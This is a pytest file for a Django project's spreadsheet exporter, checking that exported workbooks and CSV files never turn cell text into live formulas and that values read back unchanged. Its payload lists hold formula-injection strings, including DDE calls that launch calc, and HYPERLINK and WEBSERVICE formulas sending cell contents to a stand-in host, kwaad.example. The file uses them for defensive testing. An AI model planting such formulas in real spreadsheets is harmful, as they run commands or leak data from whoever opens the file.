"""Exports: nothing becomes a formula, and everything comes back as it was."""

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import pytest
from django.utils.translation import gettext_lazy, override
from openpyxl import load_workbook

from clusterbeleid.core.sheets import (
    ColumnSpec,
    TableSpec,
    columns,
    read_table,
    write_csv,
    write_template,
    write_xlsx,
)
from clusterbeleid.core.sheets.escaping import guard, is_dangerous, unguard
from clusterbeleid.core.sheets.writer import sheet_name
from clusterbeleid.core.sheets.written_cells import CELL_LENGTH, clean
from tests.core.workbooks import HEADER, KBO, SOURCES, SPEC, first_sheet, part, rows, values_of

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "|",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u00a0=",
    "＝",
    "＋",
    "－",
    "＠",
    "−",
    "﹦",
)
FORMULAS = (
    "1+1",
    "SUM(A1:A9)",
    'HYPERLINK("http://kwaad.example/?"&A1;"klik")',
    "cmd|'/C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("http://kwaad.example")',
    'IMPORTXML("http://kwaad.example";"//a")',
)
PLAIN = (
    "'=1+1",
    "''=1+1",
    "'",
    "'s Gravenwezel",
    "'+32 2 555 12 12",
    "+32 2 555 12 12",
    "-",
    "=",
    "@vlaio",
    "=1;2",
    'a";"=1+1',
    "a\r\n=1+1",
    "a\n\n=1+1",
    "regel een\rregel twee",
    "_x000D_",
    "_x003D_1+1",
    "%0A=1+1",
    "<script>alert(1)</script>",
    "0203.430.576",
    "00123",
    "1E308",
    "#N/A",
    "#REF!",
    "TRUE",
    "2026-03-31",
    "  ruimte rondom  ",
    "Ærø “é” 😀",
    "\t",
    "\ufeff=1",
)
PAYLOADS = [start + formula for start in STARTS for formula in FORMULAS] + list(PLAIN)
TEXT_SPEC = TableSpec(
    (
        ColumnSpec("number", ("Nummer",), columns.text(10)),
        ColumnSpec("text", ("Tekst",), columns.text(CELL_LENGTH, strip=False), may_be_blank=True),
    )
)


def numbered() -> list[tuple[str, str]]:
    return [(f"n{at}", text) for at, text in enumerate(PAYLOADS)]


def test_enough_payloads() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 100


@pytest.mark.attack("A10")
def test_payloads_in_a_workbook_are_text_and_unchanged() -> None:
    data = write_xlsx("=1+1", ["Nummer", "Tekst"], numbered())
    sheet = first_sheet(data)
    kinds = [cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert set(kinds) == {"s"}
    assert b"<f" not in part(data)
    result = read_table(data, "a.xlsx", TEXT_SPEC)
    assert result.errors == []
    read = {row.values["number"]: row.raw["text"] for row in result.rows}
    assert [text for at, text in numbered() if read[at] != text] == []


def test_dangerous_text_stays_text_when_it_is_edited() -> None:
    data = write_xlsx("x", ["Tekst"], [["=1+1"], ["gewoon"]])
    sheet = first_sheet(data)
    assert [bool(sheet[f"A{row}"].quotePrefix) for row in (2, 3)] == [True, False]


@pytest.mark.attack("A10")
def test_payloads_in_a_csv_file_are_harmless_and_come_back_unchanged() -> None:
    data = write_csv(["Nummer", "Tekst"], numbered())
    for _, shown in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"):
        assert not is_dangerous(shown), shown
    result = read_table(data, "a.csv", TEXT_SPEC)
    assert result.errors == []
    read = {row.values["number"]: row.raw["text"] for row in result.rows}
    # A cell with only white space is a blank cell, in a workbook and in a CSV file.
    assert [text for at, text in numbered() if read[at] != text and text.strip()] == []


@pytest.mark.parametrize("text", ["-5", "-5,00", "+5", "-1.234,50", "-12 %", "5"])
def test_number_as_text_needs_no_guard(text: str) -> None:
    assert guard(text) == text


@pytest.mark.parametrize("text", PAYLOADS)
def test_guard_is_undone_exactly(text: str) -> None:
    assert unguard(guard(text)) == text


def test_headers_are_guarded_too() -> None:
    assert write_csv(["=A"], []).decode("utf-8-sig") == "'=A\r\n"
    sheet = first_sheet(write_xlsx("x", ["=A"], []))
    assert (sheet["A1"].value, sheet["A1"].data_type) == ("=A", "s")


def test_values_keep_their_kind_in_a_workbook() -> None:
    table = [
        ("a", Decimal("-1234.50"), date(2026, 3, 31), 12, Decimal("79.99"), "Ontvangen"),
        (None, None, None, None, None, ""),
        ("b", 0, date(2026, 1, 1), -1, Decimal(100), "x"),
    ]
    kinds = ["text", "euro", "date", "int", "pct", "status"]
    data = write_xlsx("Lijst", list("ABCDEF"), table, kinds=kinds)
    sheet = first_sheet(data)
    assert [cell.data_type for cell in sheet[2]] == ["s", "n", "d", "n", "n", "s"]
    assert [cell.value for cell in sheet[2]][1:5] == [-1234.5, datetime(2026, 3, 31), 12, 0.7999]  # noqa: DTZ001
    assert [cell.number_format for cell in sheet[2]][1:5] == [
        '"€" #,##0.00',
        "dd/mm/yyyy",
        "0",
        "0.00%",
    ]
    assert [cell.value for cell in sheet[3]] == [None] * 6
    assert sheet["B4"].value == 0


def test_workbook_is_ready_to_work_with() -> None:
    long = "een tamelijk lange naam van een organisatie"
    data = write_xlsx("Bijdragen: 2026/27 [x]", ["Naam", "Bedrag"], [[long, 5], ["b", 6]])
    book = load_workbook(io.BytesIO(data))
    sheet: Any = book.active
    assert sheet.title == "Bijdragen 2026 27 x"
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", "A1:B3")
    assert sheet["A1"].font.bold
    assert sheet.column_dimensions["A"].width == len(long) + 2
    assert book.properties.language == "nl-BE"


def test_export_without_rows_has_its_header() -> None:
    data = write_xlsx("Leeg", HEADER, iter([]))
    assert first_sheet(data).auto_filter.ref == "A1:E1"
    assert read_table(data, "a", SPEC).errors == []


def test_export_reads_back_with_all_values() -> None:
    table = rows(30)
    kinds = ["text", "text", "euro", "date", "status"]
    for data in (write_xlsx("Bijdragen", HEADER, table, kinds=kinds), write_csv(HEADER, table)):
        result = read_table(data, "a", SPEC)
        assert result.errors == []
        assert [row.values for row in result.rows] == [values_of(row) for row in table]


def test_csv_is_as_excel_in_flanders_opens_it() -> None:
    table = [
        ("a;b", Decimal("-1234.50"), date(2026, 3, 1), 7, None),
        ("c", Decimal("1E+3"), datetime(2026, 3, 1, 9, 5, tzinfo=UTC), True, "x"),
    ]
    data = write_csv(["A", "B", "C", "D", "E"], table)
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig").split("\r\n") == [
        "A;B;C;D;E",
        '"a;b";-1234,50;01/03/2026;7;',
        "c;1000;01/03/2026 09:05;True;x",
        "",
    ]


def test_csv_with_commas_quotes_the_decimal_comma() -> None:
    assert write_csv(["A"], [[Decimal("1.50")]], delimiter=",").endswith(b'"1,50"\r\n')


def test_translated_words_are_written_as_text() -> None:
    data = write_xlsx("x", [str(gettext_lazy("Name"))], [[gettext_lazy("Name")]])
    assert read_table(
        data, "a", TableSpec((ColumnSpec("n", ("Name", "Naam"), columns.kbo),))
    ).header_row


@pytest.mark.parametrize("sign", ["\x00", "\x0b", "\x1f", "\ud800", "\uffff"])
def test_signs_no_reader_takes_are_dropped(sign: str) -> None:
    assert clean(f"a{sign}b") == "ab"
    data = write_xlsx(f"t{sign}", [f"h{sign}"], [[f"a{sign}b"]])
    assert first_sheet(data)["A2"].value == "ab"
    assert write_csv(["h"], [[f"a{sign}b"]]).decode("utf-8-sig") == "h\r\nab\r\n"


def test_text_longer_than_a_cell_is_cut_and_says_so() -> None:
    data = write_xlsx("x", ["A"], [["x" * 40_000]])
    value = first_sheet(data)["A2"].value
    assert (len(value), value[-1]) == (CELL_LENGTH, "…")


def test_wrong_number_of_cells_or_kinds_is_a_fault() -> None:
    with pytest.raises(ValueError, match="shorter"):
        write_xlsx("x", ["A", "B"], [["a"]])
    with pytest.raises(ValueError, match="as many kinds"):
        write_xlsx("x", ["A", "B"], [], kinds=["text"])


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("", "Export"),
        ("[]:*?/\\", "Export"),
        ("'aan'", "aan"),
        ("a" * 40, "a" * 31),
        ("Cluster & co: lijst", "Cluster & co lijst"),
    ],
)
def test_sheet_names_are_what_excel_accepts(title: str, name: str) -> None:
    assert sheet_name(title) == name


EXAMPLE = {
    "kbo": KBO,
    "name": "=Voorbeeld nv",
    "amount": Decimal("1250.00"),
    "day": date(2026, 3, 31),
    "source": "Bedrijf",
}
EXPLAIN = {"kbo": "Ondernemingsnummer, tien cijfers.", "amount": "In euro, zonder btw."}


@pytest.mark.parametrize("language", ["nl", "en"])
def test_template_reads_as_an_empty_table(language: str) -> None:
    with override(language):
        data = write_template(SPEC, "Bijdragen", [EXAMPLE], EXPLAIN)
    result = read_table(data, "sjabloon.xlsx", SPEC)
    assert (result.errors, result.rows, result.sheet) == ([], [], "Bijdragen")
    assert ("sheet.example_skipped", {"row": 2}) in [(n.code, n.params) for n in result.notes]


def test_template_explains_offers_choices_and_has_no_formula() -> None:
    data = write_template(SPEC, "Bijdragen", [EXAMPLE], EXPLAIN)
    book = load_workbook(io.BytesIO(data))
    table, explanation = book.worksheets
    assert table["A1"].comment.text == EXPLAIN["kbo"]
    assert table["B2"].data_type == "s"
    (validation,) = table.data_validations.dataValidation
    assert str(validation.sqref) == "E2:E1001"
    assert validation.formula1 == f"'{explanation.title}'!$F$2:$F$4"
    assert [explanation[f"F{row}"].value for row in (2, 3, 4)] == list(SOURCES)
    assert [explanation[f"A{row}"].value for row in range(2, 7)] == [c.title for c in SPEC.columns]
    assert explanation["C2"].value == EXPLAIN["kbo"]
    assert table["D5"].number_format == "dd/mm/yyyy"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert not [name for name in archive.namelist() if "vba" in name.lower()]


def test_template_filled_in_by_a_person_is_read() -> None:
    book = load_workbook(io.BytesIO(write_template(SPEC, "Bijdragen", [EXAMPLE], EXPLAIN)))
    for at, value in enumerate(rows(1)[0], start=1):
        book.worksheets[0].cell(3, at).value = value
    buffer = io.BytesIO()
    book.save(buffer)
    result = read_table(buffer.getvalue(), "ingevuld.xlsx", SPEC)
    assert [(row.row_number, row.values) for row in result.rows] == [(3, values_of(rows(1)[0]))]
    assert result.errors == []
